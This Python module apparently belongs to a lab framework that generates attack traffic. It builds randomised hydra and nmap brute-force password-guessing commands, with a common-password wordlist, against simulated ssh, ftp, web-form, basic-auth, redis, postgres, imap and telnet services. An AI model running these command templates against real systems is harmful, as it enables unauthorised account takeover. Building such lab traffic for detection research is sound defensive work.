# SPDX-License-Identifier: Apache-2.0
"""Guessing passwords with hydra (ssh, ftp, web forms, basic auth, redis, postgres) and with nmap's scripts."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from lab import accounts
from lab.scenarios.attack.targets import ip_version, victim_with
from lab.scenarios.scenario import TCP, Attack, AttackDraft, DrawAttack, Scene
from lab.services import misc, postgres, redis, vsftpd

_WORDS = (
    "123456",
    "password",
    "qwerty",
    "dragon1",
    "monkey",
    "master",
    "sunshine",
    "shadow",
    "princess",
    "football",
    "welcome",
    "secret",
    "trustno1",
)


def _word_list(chance: Random, most: int) -> tuple[str, int]:
    """Shell that writes /tmp/words, and how many there are. One in three lists has a right word in it."""
    words = [f"{chance.choice(_WORDS)}{chance.randint(0, 999)}" for _ in range(chance.randint(most // 3, most))]
    if chance.random() < 0.33:
        words.insert(chance.randrange(len(words)), accounts.PEOPLE[4][1])
    return f"printf '%s\\n' {' '.join(words)} > /tmp/words$$", len(words)


def _pace(chance: Random) -> tuple[str, str]:
    threads, wait = chance.choice((1, 1, 2, 4, 6)), chance.choice((0, 0, 0, 1, 3))
    return f"-t {threads}" + (f" -c {wait}" if wait else ""), f"threads={threads}; wait={wait}"


def _hydra(service: str, module: str, most: int, port_of: Callable[[Scene], int]) -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        victim = victim_with(scene, chance, service)
        if victim is None:
            return None
        version, port = ip_version(chance), port_of(scene)
        words, count = _word_list(chance, most // 2 if scene.gentle else most)
        pace, technique = _pace(chance)
        user = chance.choice((accounts.PEOPLE[4][0], "root", "admin", accounts.PEOPLE[0][0]))
        six = "-6" if version == 6 else ""
        login = "" if module == "redis" else f"-l {user}"
        form = _FORMS.get(module, "").replace("USER", user)
        command = f"cd /tmp && {words} && hydra -I {six} {login} -P /tmp/words$$ {pace} -s {port} {scene.address(victim, version)} {module} {form}"
        return AttackDraft(
            "brute_force",
            "hydra",
            f"{module}; words={count}; {technique}",
            command,
            60,
            (scene.leg(victim, version, TCP, port),),
        )

    return draw


_FORMS = {
    "http-post-form": "'/app/login:user=^USER^&password=^PASS^:Login failed'",
    "http-get": "/admin/",
    "postgres": postgres.DATABASE,
}


def _nmap(script: str, service: str, port_of: Callable[[Scene], int], more: str = "") -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        victim = victim_with(scene, chance, service)
        if victim is None:
            return None
        port, version = port_of(scene), ip_version(chance)
        six = "-6" if version == 6 else ""
        threads = chance.randint(1, 5)
        # A port that nmap does not take for the service by its number must be named to the script.
        command = (
            f"nmap {six} -n -Pn -p {port} --script +{script} --script-args brute.firstonly=false,unpwdb.timelimit=35s,"
            f"brute.threads={threads},brute.start={threads}{more} {scene.address(victim, version)}"
        )
        return AttackDraft(
            "brute_force", "nmap", f"{script}; threads={threads}", command, 45, (scene.leg(victim, version, TCP, port),)
        )

    return draw


ATTACKS = (
    Attack("hydra-ssh", _hydra("sshd", "ssh", 60, lambda scene: scene.network.ssh_port), weight=4),
    Attack("hydra-ftp", _hydra("vsftpd", "ftp", 80, lambda scene: vsftpd.PORT), weight=3),
    Attack("hydra-form", _hydra("webapp", "http-post-form", 200, lambda scene: scene.network.web_port), weight=2),
    Attack("hydra-basic", _hydra("nginx", "http-get", 250, lambda scene: scene.network.web_port), weight=2),
    Attack("hydra-redis", _hydra("redis", "redis", 200, lambda scene: redis.PORT)),
    Attack("hydra-postgres", _hydra("postgres", "postgres", 120, lambda scene: postgres.PORT)),
    Attack("nmap-ssh-brute", _nmap("ssh-brute", "sshd", lambda scene: scene.network.ssh_port)),
    Attack("nmap-redis-brute", _nmap("redis-brute", "redis", lambda scene: redis.PORT, ",unpwdb.passlimit=800")),
    Attack("nmap-pgsql-brute", _nmap("pgsql-brute", "postgres", lambda scene: postgres.PORT)),
    Attack("nmap-imap-brute", _nmap("imap-brute", "misc", lambda scene: misc.IMAP)),
    Attack("nmap-telnet-brute", _nmap("telnet-brute", "misc", lambda scene: misc.TELNET)),
    Attack(
        "nmap-http-brute",
        _nmap("http-brute", "nginx", lambda scene: scene.network.web_port, ",http-brute.path=/admin/"),
    ),
    Attack("nmap-ftp-brute", _nmap("ftp-brute", "vsftpd", lambda scene: vsftpd.PORT)),
)
